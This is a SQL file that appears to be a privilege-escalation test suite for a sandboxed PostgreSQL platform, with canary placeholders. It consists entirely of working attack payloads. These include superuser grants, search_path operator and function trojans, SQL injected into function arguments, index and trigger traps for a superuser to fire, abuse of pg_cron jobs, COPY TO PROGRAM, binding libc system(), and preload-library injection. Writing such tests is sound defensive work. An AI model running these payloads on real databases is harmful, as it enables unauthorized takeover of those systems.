-- Ways to become a superuser, or to borrow one. CANARY is a folder of the host, PORT a socket that nobody may call.

-- # making a superuser
CREATE ROLE evil_1 SUPERUSER LOGIN;
ALTER ROLE CURRENT_USER SUPERUSER;
ALTER USER postgres WITH SUPERUSER;
-- # the roles that run programs and read files
GRANT pg_execute_server_program TO CURRENT_USER;
GRANT pg_read_server_files, pg_write_server_files TO CURRENT_USER;
CREATE ROLE reader_2; GRANT pg_read_server_files TO reader_2 WITH ADMIN OPTION;
-- # taking the role of the server's owner
SET ROLE headroom_admin;
SET SESSION AUTHORIZATION headroom_admin;
SET LOCAL ROLE headroom_admin;
SELECT set_config('role', 'headroom_admin', false), set_config('session_authorization', 'headroom_admin', false);
-- # changing the owner of the server
ALTER ROLE headroom_admin PASSWORD 'known';
ALTER ROLE headroom_admin SET session_preload_libraries = 'CANARY/evil';
ALTER ROLE ALL SET search_path = evil;
GRANT headroom_admin TO CURRENT_USER;
-- # writing the catalog by hand
UPDATE pg_catalog.pg_authid SET rolsuper = true;
SET allow_system_table_mods = on;
INSERT INTO pg_catalog.pg_authid (oid, rolname, rolsuper, rolinherit, rolcreaterole, rolcreatedb, rolcanlogin, rolreplication, rolbypassrls, rolconnlimit) VALUES (99999, 'evil_2', true, true, true, true, true, true, true, -1);
DELETE FROM pg_catalog.pg_auth_members;
UPDATE pg_catalog.pg_database SET datdba = (SELECT oid FROM pg_roles WHERE rolname = current_user);
-- # every function that came with the review, with SQL as its arguments
DO $$
DECLARE f record; hostile text := 'plpgsql; ALTER ROLE ' || quote_ident(current_user) || ' SUPERUSER; --';
BEGIN
  FOR f IN SELECT p.oid, p.pronamespace::regnamespace AS home, p.proname, p.pronargs, p.proargtypes FROM pg_proc p WHERE p.prosecdef OR p.proname LIKE 'headroom%' LOOP
    BEGIN
      EXECUTE (SELECT format('SELECT %s.%I(%s)', f.home, f.proname, string_agg(CASE WHEN t.type::regtype::text LIKE '%[]'
        THEN format('ARRAY[%L, %L, %L, %L]::text[]', hostile, 'public', hostile, hostile) ELSE format('%L', hostile) END, ', '))
        FROM unnest(f.proargtypes::oid[]) AS t(type));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $$;
-- # the maker of extensions with clauses of its own
SELECT pg_catalog.headroom_create_extension('plpgsql', ARRAY['if not exists plpgsql; alter role postgres superuser; --', NULL, NULL, NULL]);
SELECT pg_catalog.headroom_create_extension('hstore', ARRAY['', 'public', '1"; CREATE ROLE evil_3 SUPERUSER; --', ' CASCADE; CREATE ROLE evil_4 SUPERUSER']);
-- # operators that a definer's search path would find first
CREATE SCHEMA evil_5;
CREATE FUNCTION evil_5.join(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CREATE ROLE evil_5 SUPERUSER'; RETURN $1; EXCEPTION WHEN OTHERS THEN RETURN $1; END $$;
CREATE OPERATOR evil_5.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = evil_5.join);
SET search_path = evil_5, pg_catalog;
CREATE EXTENSION IF NOT EXISTS hstore SCHEMA evil_5;
-- # an extension made in a schema full of traps
CREATE SCHEMA trap;
CREATE FUNCTION trap.text_eq(text, text) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CREATE ROLE evil_6 SUPERUSER'; RETURN true; EXCEPTION WHEN OTHERS THEN RETURN false; END $$;
CREATE OPERATOR trap.= (LEFTARG = text, RIGHTARG = text, FUNCTION = trap.text_eq);
CREATE FUNCTION trap.format(text, VARIADIC "any") RETURNS text LANGUAGE sql AS 'SELECT $1';
CREATE TYPE trap.hstore AS (a int);
CREATE EXTENSION hstore SCHEMA trap;
CREATE EXTENSION citext SCHEMA trap;
CREATE EXTENSION pg_trgm SCHEMA trap;
CREATE EXTENSION "uuid-ossp" SCHEMA trap;
CREATE EXTENSION btree_gist SCHEMA trap;
-- # an extension's update path through traps
CREATE SCHEMA trap_2;
CREATE EXTENSION IF NOT EXISTS citext SCHEMA trap_2 VERSION '1.4';
CREATE OR REPLACE FUNCTION trap_2.regexp_match(trap_2.citext, trap_2.citext) RETURNS text[] LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CREATE ROLE evil_7 SUPERUSER'; RETURN NULL; END $$;
ALTER EXTENSION citext UPDATE;
-- # functions that a superuser's own queries might call
CREATE FUNCTION public.quote_ident(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; RETURN $1; EXCEPTION WHEN OTHERS THEN RETURN $1; END $$;
CREATE FUNCTION public.current_setting(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; RETURN '15'; EXCEPTION WHEN OTHERS THEN RETURN '15'; END $$;
CREATE FUNCTION public.count(bigint) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; RETURN 0; END $$;
ALTER ROLE CURRENT_USER SET search_path = public, pg_catalog;
-- # an expression that a superuser's maintenance would run
CREATE TABLE public.maintained (a int);
CREATE FUNCTION public.promote(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; RETURN $1; EXCEPTION WHEN OTHERS THEN RETURN $1; END $$;
CREATE INDEX ON public.maintained (public.promote(a));
INSERT INTO public.maintained SELECT generate_series(1, 10);
ANALYZE public.maintained;
-- # a trap on what the platform's superuser writes
CREATE FUNCTION public.take() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; RETURN NEW; EXCEPTION WHEN OTHERS THEN RETURN NEW; END $$;
CREATE TRIGGER take BEFORE INSERT OR UPDATE ON cron.job FOR EACH ROW EXECUTE FUNCTION public.take();
CREATE RULE take AS ON INSERT TO cron.job DO ALSO SELECT public.promote(1);
SELECT cron.schedule('take', '0 1 * * *', 'SELECT 1');
-- # a job that asks for rights
SELECT cron.schedule('promote', '* * * * *', 'ALTER ROLE postgres SUPERUSER; CREATE ROLE evil_8 SUPERUSER');
SELECT cron.schedule('program', '* * * * *', $job$DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch CANARY/ran''' ; END $$ $job$);
-- # a job under another name
UPDATE cron.job SET username = 'headroom_admin', database = 'postgres', nodename = '127.0.0.1', nodeport = PORT;
INSERT INTO cron.job (schedule, command, username) VALUES ('* * * * *', 'CREATE ROLE evil_9 SUPERUSER', 'headroom_admin');
-- # security definer functions given away
CREATE FUNCTION public.give() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; END $$;
ALTER FUNCTION public.give() OWNER TO headroom_admin;
REASSIGN OWNED BY CURRENT_USER TO headroom_admin;
SELECT public.give();
-- # event triggers that a superuser would fire
CREATE FUNCTION public.watch() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END $$;
CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION public.watch();
CREATE EVENT TRIGGER watch_login ON login EXECUTE FUNCTION public.watch();
-- # default privileges and casts for others
ALTER DEFAULT PRIVILEGES FOR ROLE headroom_admin GRANT ALL ON TABLES TO CURRENT_USER;
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT;
CREATE CAST (name AS text) WITH INOUT AS IMPLICIT;
-- # languages without a cage
CREATE EXTENSION plpython3u;
CREATE EXTENSION plperlu;
CREATE LANGUAGE plpython3u;
CREATE TRUSTED LANGUAGE evil HANDLER plpgsql_call_handler;
CREATE FUNCTION public.c_system(text) RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';
CREATE FUNCTION public.inside(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all';
-- # settings that only take effect for others
ALTER SYSTEM SET session_preload_libraries = 'CANARY/evil';
ALTER SYSTEM SET archive_command = 'touch CANARY/ran';
ALTER DATABASE postgres SET session_preload_libraries = 'CANARY/evil';
SET session_preload_libraries = 'CANARY/evil';
SET local_preload_libraries = '../../../CANARY/evil';
SELECT pg_reload_conf();
